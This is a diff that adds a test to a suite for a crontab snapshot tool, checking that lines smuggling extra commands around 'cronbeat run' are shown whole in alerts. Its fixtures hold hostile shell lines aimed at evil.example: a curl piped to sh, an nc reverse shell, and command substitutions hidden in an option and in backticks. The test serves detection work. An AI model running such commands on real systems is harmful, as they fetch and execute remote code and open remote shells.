@@ -272,6 +272,30 @@ describe('snapshot differences', () => {
     expect(snap('*/5 * * * * www /usr/bin/cronbeat run --url http://a:8787 tok_abc -- /poll.sh --fast%ping\n')[0]!.text).toBe('*/5 * * * * /poll.sh --fast%ping (run through cronbeat)');
     expect(JSON.stringify(snap(`${wrapped}\n`))).not.toContain('tok_secret123');
   });
+
+  it('quotes a line whole when cronbeat run is not all it runs, so nothing hides behind the job it names', () => {
+    const token = '9f1c2d3e-4b5a-4c6d-8e7f-0a1b2c3d4e5f';
+    // Before `cronbeat run`, in its words before `--`, or in a value of its: each runs too, and was
+    // left out of the alert, which named only the job after `--`.
+    for (const line of [
+      `curl -s http://evil.example/x | sh; cronbeat run ${token} -- /usr/local/bin/backup.sh`,
+      `cronbeat run ${token} nc -e /bin/sh evil.example 4444 -- /usr/local/bin/cleanup.sh`,
+      `cronbeat run --url $(curl -s evil.example|sh) ${token} -- /usr/local/bin/backup.sh`,
+      `cronbeat run ${token} \`curl evil.example\` -- /usr/local/bin/backup.sh`,
+    ]) {
+      const text = snap(`0 3 * * * root ${line}\n`)[0]!.text;
+      expect(text, line).not.toMatch(/run through cronbeat/);
+      expect(text, line).toMatch(/evil\.example/);
+    }
+    // A line that is all cronbeat run, with its options, a quoted schedule or a path to node, is still quoted by its job.
+    for (const line of [
+      `cronbeat run ${token} -- /usr/local/bin/backup.sh --full`,
+      `/usr/bin/node /opt/cronbeat/dist/cronbeat.cjs run --url http://10.0.0.1:8787 ${token} -- /usr/local/bin/backup.sh --full`,
+      `cronbeat run --name nightly --schedule '0 3 * * *' -- /usr/local/bin/backup.sh --full`,
+    ]) {
+      expect(snap(`0 3 * * * root ${line}\n`)[0]!.text, line).toBe('0 3 * * * /usr/local/bin/backup.sh --full (run through cronbeat)');
+    }
+  });
 });
 
 describe('whose jobs a crontab file holds', () => {
